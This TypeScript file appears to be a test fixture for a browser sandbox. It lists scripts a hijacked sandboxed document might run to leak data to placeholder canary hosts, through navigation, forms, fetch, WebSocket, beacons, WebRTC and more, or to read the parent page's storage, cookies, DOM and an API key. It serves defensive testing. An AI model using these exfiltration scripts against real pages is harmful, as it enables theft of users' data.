/** What a document of the sandbox would try if it were taken over. */
export type Infection = {
  readonly name: string
  /** JavaScript that may use `await` and `say(text)`. */
  readonly script: string
  /** No policy of a page keeps it from opening a connection or sending a datagram: named in the README. */
  readonly isNotCovered?: true
}

const append = (tag: string, properties: string, parent = 'body') =>
  `document.${parent}.append(Object.assign(document.createElement(${JSON.stringify(tag)}), ${properties}))`

export const INFECTIONS: readonly Infection[] = [
  // Chromium opens the connection before it asks the policy of the page, and then sends no request.
  {
    name: 'its own navigation',
    script: 'location.href = "HTTP_CANARY/navigated?stolen"',
    isNotCovered: true,
  },
  {
    name: 'a replaced location',
    script: 'location.replace("HTTP_CANARY/replaced?stolen")',
    isNotCovered: true,
  },
  {
    name: 'a refresh',
    script: append('meta', '{ httpEquiv: "refresh", content: "0;url=HTTP_CANARY/refreshed" }', 'head'),
    isNotCovered: true,
  },
  {
    name: 'a clicked link',
    script: `${append('a', '{ id: "away", href: "HTTP_CANARY/clicked", ping: "HTTP_CANARY/ping" }')}; document.getElementById("away").click()`,
    isNotCovered: true,
  },
  {
    name: 'a sent form',
    script: `${append('form', '{ id: "form", action: "HTTP_CANARY/form" }')}; document.getElementById("form").submit()`,
  },
  { name: 'a window', script: 'window.open("HTTP_CANARY/window")' },
  { name: 'the navigation of the page', script: 'top.location = "HTTP_CANARY/top"' },
  {
    name: 'a document from a data address',
    script:
      'location.href = "data:text/html," + encodeURIComponent(`<img src="HTTP_CANARY/data-image"><script>fetch("HTTP_CANARY/data-fetch")</script>`)',
  },
  {
    name: 'a document from a blob',
    script:
      'location.href = URL.createObjectURL(new Blob([`<img src="HTTP_CANARY/blob-image">`], { type: "text/html" }))',
  },
  { name: 'an image', script: append('img', '{ src: "HTTP_CANARY/image" }') },
  {
    name: 'a style sheet',
    script: append('link', '{ rel: "stylesheet", href: "HTTP_CANARY/style" }', 'head'),
  },
  {
    name: 'an imported style',
    script: append(
      'style',
      '{ textContent: "@import url(HTTP_CANARY/import); body { background: url(HTTP_CANARY/background) }" }',
      'head',
    ),
  },
  { name: 'a script', script: append('script', '{ src: "HTTP_CANARY/script" }') },
  { name: 'a prefetch', script: append('link', '{ rel: "prefetch", href: "HTTP_CANARY/prefetch" }', 'head') },
  {
    name: 'a preload',
    script: append('link', '{ rel: "preload", as: "script", href: "HTTP_CANARY/preload" }', 'head'),
  },
  { name: 'an icon', script: append('link', '{ rel: "icon", href: "HTTP_CANARY/icon" }', 'head') },
  { name: 'a frame', script: append('iframe', '{ src: "HTTP_CANARY/frame" }') },
  {
    name: 'a frame with a document of its own',
    script: append('iframe', '{ srcdoc: `<img src="HTTP_CANARY/srcdoc">` }'),
  },
  { name: 'an object', script: append('object', '{ data: "HTTP_CANARY/object" }') },
  { name: 'a film', script: append('video', '{ src: "HTTP_CANARY/video", autoplay: true }') },
  { name: 'a font', script: 'await new FontFace("stolen", "url(HTTP_CANARY/font)").load()' },
  { name: 'a fetch', script: 'await fetch("HTTP_CANARY/fetch", { mode: "no-cors" })' },
  {
    name: 'a request',
    script: 'const it = new XMLHttpRequest(); it.open("GET", "HTTP_CANARY/request", false); it.send()',
  },
  { name: 'a web socket', script: 'new WebSocket("SOCKET_CANARY/socket")' },
  { name: 'an event source', script: 'new EventSource("HTTP_CANARY/events")' },
  // It says true and sends nothing, or false and sends nothing: only the canary counts.
  { name: 'a beacon', script: 'say(String(navigator.sendBeacon("HTTP_CANARY/beacon", "stolen")))' },
  { name: 'a later fetch', script: 'fetchLater("HTTP_CANARY/later", { activateAfter: 0 })' },
  { name: 'a worker', script: 'new Worker("HTTP_CANARY/worker")' },
  {
    name: 'rules of speculation',
    script: append(
      'script',
      '{ type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["HTTP_CANARY/speculated"] }] }) }',
    ),
  },
  { name: 'the stores of the page', script: 'say("read " + parent.localStorage.getItem("key"))' },
  { name: 'its own stores', script: 'say("read " + localStorage.getItem("key") + document.cookie)' },
  { name: 'the document of the page', script: 'say("read " + parent.document.getElementById("key").value)' },
  {
    name: 'the address of the page',
    script:
      'say("read " + document.referrer + [...(location.ancestorOrigins ?? [])]); say("read " + parent.location.href)',
  },
  { name: 'the name of the page', script: 'say("read " + window.name); say("read " + parent.name)' },
  { name: 'a property of the page', script: 'say("read " + parent.apiKey)' },
  {
    name: 'the state of the page',
    script: 'say("read " + history.state); say("read " + parent.history.state.key)',
  },
  {
    name: 'what the page says to its own origin',
    script:
      'const channel = new BroadcastChannel("keys"); channel.onmessage = ({ data }) => say("read " + data); channel.postMessage("send"); await new Promise((done) => setTimeout(done, 200))',
  },
  {
    name: 'a preconnection',
    script: append('link', '{ rel: "preconnect", href: "TCP_CANARY" }', 'head'),
    isNotCovered: true,
  },
  {
    name: 'a peer connection',
    script:
      'const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP_CANARY" }] }); peer.createDataChannel("x"); await peer.setLocalDescription()',
    isNotCovered: true,
  },
]
